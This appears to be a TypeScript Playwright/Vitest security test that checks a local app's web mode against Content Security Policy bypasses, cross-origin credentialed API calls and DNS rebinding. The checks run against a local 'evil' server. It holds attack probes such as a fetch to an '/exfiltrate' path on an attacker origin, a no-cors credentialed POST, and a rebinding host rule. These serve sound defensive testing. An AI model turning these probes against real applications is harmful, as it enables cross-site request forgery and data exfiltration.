/**
 * Security seen from real Chromium against web mode:
 * - the page has no Node: no require, process, module, Buffer, global;
 * - the CSP blocks inline script, inline handlers, blob: script, remote script, remote fetch and frames;
 * - a page from another origin (another local port) can neither call the API (even a
 *   no-preflight "simple" POST, with the token cookie) nor load an opened file;
 * - DNS rebinding: a hostname that resolves to 127.0.0.1 is refused, even with the token.
 */
import { copyFile } from 'node:fs/promises';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { chromium } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { clip } from '../fixtures/generate';
import { CHROMIUM_ARGS, chromiumPath, startApp, type App } from './helpers';

describe('renderer and web mode security in Chromium', () => {
  let app: App;
  let evil: http.Server;
  let evilOrigin: string;
  const evilHits: string[] = [];

  beforeAll(async () => {
    app = await startApp();
    evil = http.createServer((req, res) => {
      evilHits.push(req.url ?? '');
      if (req.url?.startsWith('/evil.js')) {
        res.writeHead(200, { 'Content-Type': 'text/javascript' });
        res.end('window.__remoteRan = true;');
      } else {
        res.writeHead(200, { 'Content-Type': 'text/html' });
        res.end('<!doctype html><title>evil</title><p>another local site</p>');
      }
    });
    await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', () => resolve()));
    evilOrigin = `http://127.0.0.1:${(evil.address() as AddressInfo).port}`;
  });
  afterAll(async () => {
    await app?.close();
    await new Promise<void>((resolve) => (evil ? evil.close(() => resolve()) : resolve()));
  });

  it('the page has no Node globals and no desktop bridge in web mode', async () => {
    const globals = await app.page.evaluate(() => ({
      require: typeof (globalThis as Record<string, unknown>).require,
      process: typeof (globalThis as Record<string, unknown>).process,
      module: typeof (globalThis as Record<string, unknown>).module,
      Buffer: typeof (globalThis as Record<string, unknown>).Buffer,
      global: typeof (globalThis as Record<string, unknown>).global,
      workbench: typeof (globalThis as Record<string, unknown>).workbench,
    }));
    expect(globals).toEqual({ require: 'undefined', process: 'undefined', module: 'undefined', Buffer: 'undefined', global: 'undefined', workbench: 'undefined' });
  });

  it('the CSP blocks inline script, inline handlers, blob: script, remote script, remote fetch and frames', async () => {
    evilHits.length = 0;
    const result = await app.page.evaluate(async (evilOrigin) => {
      const w = window as unknown as Record<string, unknown>;
      const violations: string[] = [];
      document.addEventListener('securitypolicyviolation', (e) => violations.push(`${e.violatedDirective} ${e.blockedURI}`));
      const inline = document.createElement('script');
      inline.textContent = 'window.__inlineRan = true;';
      document.body.appendChild(inline);
      const img = document.createElement('img');
      img.setAttribute('onerror', 'window.__handlerRan = true');
      img.src = 'data:,not-an-image';
      document.body.appendChild(img);
      // (eval itself cannot be probed from here: DevTools-evaluated code is exempt from the CSP.)
      const blob = document.createElement('script');
      blob.src = URL.createObjectURL(new Blob(['window.__blobRan = true;'], { type: 'text/javascript' }));
      const blobDone = new Promise((r) => ((blob.onerror = () => r('error')), (blob.onload = () => r('load'))));
      document.body.appendChild(blob);
      const blobOutcome = await blobDone;
      const remote = document.createElement('script');
      remote.src = `${evilOrigin}/evil.js`;
      const remoteDone = new Promise((r) => ((remote.onerror = () => r('error')), (remote.onload = () => r('load'))));
      document.body.appendChild(remote);
      const remoteOutcome = await remoteDone;
      let fetchOutcome: string;
      try {
        await fetch(`${evilOrigin}/exfiltrate?x=1`);
        fetchOutcome = 'fetched';
      } catch (e) {
        fetchOutcome = (e as Error).name;
      }
      const frame = document.createElement('iframe');
      frame.src = `${evilOrigin}/frame.html`;
      document.body.appendChild(frame);
      await new Promise((r) => setTimeout(r, 300));
      return {
        inlineRan: w.__inlineRan === true,
        handlerRan: w.__handlerRan === true,
        blobOutcome,
        blobRan: w.__blobRan === true,
        remoteOutcome,
        remoteRan: w.__remoteRan === true,
        fetchOutcome,
        violations,
      };
    }, evilOrigin);
    expect(result.inlineRan).toBe(false);
    expect(result.handlerRan).toBe(false);
    expect(result.blobOutcome).toBe('error');
    expect(result.blobRan).toBe(false);
    expect(result.remoteOutcome).toBe('error');
    expect(result.remoteRan).toBe(false);
    expect(result.fetchOutcome).toBe('TypeError');
    expect(evilHits).toEqual([]);
    const directives = result.violations.map((v) => v.split(' ')[0]);
    expect(directives).toEqual(expect.arrayContaining(['script-src-elem', 'script-src-attr', 'connect-src', 'frame-src']));
  });

  it('a page on another local port cannot call the API or load an opened file, even with the cookie', async () => {
    // A real, playable clip: if the request got through, the video would load.
    const media = path.join(app.dataDir, 'private.mp4');
    await copyFile(await clip({ duration: 1, width: 160, height: 90, audio: null }), media);
    const file = await app.server.files.open(media);
    // A browser that holds the HttpOnly token cookie set when the UI was opened.
    const cookies = await app.page.context().cookies();
    expect(cookies.map((c) => c.name)).toContain(`wb_token_${app.server.port}`);
    const context = await app.browser.newContext();
    await context.addCookies(cookies);
    const page = await context.newPage();
    try {
      await page.goto(`${evilOrigin}/`);
      const outcome = await page.evaluate(
        async ({ origin, id }) => {
          const out: Record<string, string> = {};
          // A "simple" request: no preflight, cookies included. It must still not take effect.
          try {
            await fetch(`${origin}/api/call/closeFile`, { method: 'POST', mode: 'no-cors', credentials: 'include', body: JSON.stringify({ id }) });
            out.simplePost = 'sent';
          } catch (e) {
            out.simplePost = (e as Error).name;
          }
          try {
            const r = await fetch(`${origin}/api/call/listFiles`, { method: 'POST', credentials: 'include', headers: { 'content-type': 'application/json' }, body: '{}' });
            out.corsPost = `status ${r.status}`;
          } catch (e) {
            out.corsPost = (e as Error).name;
          }
          const video = document.createElement('video');
          out.video = await new Promise<string>((resolve) => {
            video.onloadedmetadata = () => resolve('loaded');
            video.onerror = () => resolve('error');
            video.src = `${origin}/files/${id}`;
            setTimeout(() => resolve('timeout'), 5000);
          });
          return out;
        },
        { origin: app.server.origin, id: file.id },
      );
      expect(outcome.corsPost).toBe('TypeError');
      expect(outcome.video).toBe('error');
      // The no-cors POST was refused by the server: the file is still open.
      expect(app.server.files.has(file.id)).toBe(true);
    } finally {
      await context.close();
    }
  });

  it('refuses a rebinding hostname that resolves to 127.0.0.1, even with the token', async () => {
    const browser = await chromium.launch({
      executablePath: chromiumPath(),
      args: [...CHROMIUM_ARGS, '--host-resolver-rules=MAP rebind.test 127.0.0.1'],
      headless: true,
    });
    try {
      const page = await browser.newPage();
      const res = await page.goto(`http://rebind.test:${app.server.port}/?token=${app.server.token}`);
      expect(res?.status()).toBe(421);
      expect(await page.content()).not.toContain('data-testid');
    } finally {
      await browser.close();
    }
  });
});
